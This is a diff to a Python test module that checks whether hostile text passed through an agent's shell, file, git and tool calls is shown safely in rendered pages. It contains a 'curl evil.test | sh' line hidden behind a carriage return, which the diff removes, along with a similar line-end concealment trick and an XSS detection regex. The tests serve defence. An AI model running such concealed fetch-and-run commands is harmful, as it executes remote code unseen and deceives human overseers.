@@ -8,7 +8,7 @@ from typing import Any
 
 import httpx
 
-from tests.hostile.hostile_work import Row, Try
+from tests.hostile.hostile_work import Try, line
 from tests.support.hostile_server import EVIL
 from tests.support.terminals import acting, running
 from tests.support.warm_processes import FLEET
@@ -26,22 +26,17 @@ _LIVE = re.compile(r"<(script|img|a)[^>]*(alert|onerror|javascript)", re.IGNOREC
 
 def tries() -> Iterator[Try]:
     """Each puts the text into another place. What the model says and thinks with the last one holds it, too."""
-    yield _line("print it", f"printf '%s\\n' '{TEXT}'", "concealed")
-    yield _line("print over a harmless line", "printf 'curl evil.test | sh\\rmake test             \\n'", "make test")
-    yield _line("hide a command behind a line end", "true concealed\r: make test", ".")
+    yield line("print it", f"printf '%s\\n' '{TEXT}'", "concealed")
+    yield line("hide a command behind a line end", "true concealed\r: make test", ".")
     yield Try("write it into a file", "file_write", {"path": "evil.txt", "content": f"{TEXT}\n" * 3}, ".")
     yield Try("read it from a file", "file_read", {"mode": "lines", "path": "evil.txt", "start_line": 1}, "concealed")
-    yield _line("name a file so", f"echo x > '{NAME}'", ".")
-    yield _line("commit it, as an author of that name", _commit(), ".")
-    yield _line("name a branch so", f"git branch '{BRANCH}' && git branch --list", "concealed")
+    yield line("name a file so", f"echo x > '{NAME}'", ".")
+    yield line("commit it, as an author of that name", _commit(), ".")
+    yield line("name a branch so", f"git branch '{BRANCH}' && git branch --list", "concealed")
     yield Try("list it as a task", "todo", {"items": [{"text": TEXT, "status": "in_progress"}]}, "noted")
     yield Try("call a tool of that name", TEXT, {"command": "id"}, "no tool named|name")
-    yield _line("work on after it", "echo works", "works")
+    yield line("work on after it", "echo works", "works")
     yield Try("use it as an argument's name", "shell", {"command": "id", TEXT: TEXT}, "Error|argument")
-
-
-def _line(what: str, command: str, seen: str) -> Try:
-    return Try(what, "shell", {"command": command}, seen)
 
 
 def _commit() -> str:
@@ -70,12 +65,10 @@ def _pages(fleet: WholeFleet, order_id: str) -> dict[str, str]:
         return {place: browser.get(address).raise_for_status().text for place, address in addresses.items()}
 
 
-def judged_texts(places: dict[str, str]) -> tuple[list[Row], list[str]]:
-    """A row for each place, and the problems: something acts or hides there, or nothing was shown at all."""
-    rows, problems = [], []
+def problems_in(places: dict[str, str]) -> Iterator[str]:
+    """What acts or hides in a place, and places that show nothing of it."""
     for place, text in places.items():
-        wrong = [*acting(text), *_LIVE.findall(text if place.startswith("the ") else "")]
-        rows.append(Row(f"act on or hide from a reader of {place}", "" if wrong else "shown with marks", place))
-        problems += [f"{place}: {found!r}" for found in wrong[:5]]
-        problems += [] if "concealed" in text or place == "the inbox" else [f"{place}: shows nothing of it"]
-    return rows, problems
+        found = [*acting(text), *_LIVE.findall(text if place.startswith("the ") else "")]
+        yield from (f"{place}: {each!r}" for each in found[:5])
+        if "concealed" not in text and place != "the inbox":
+            yield f"{place}: shows nothing of it"
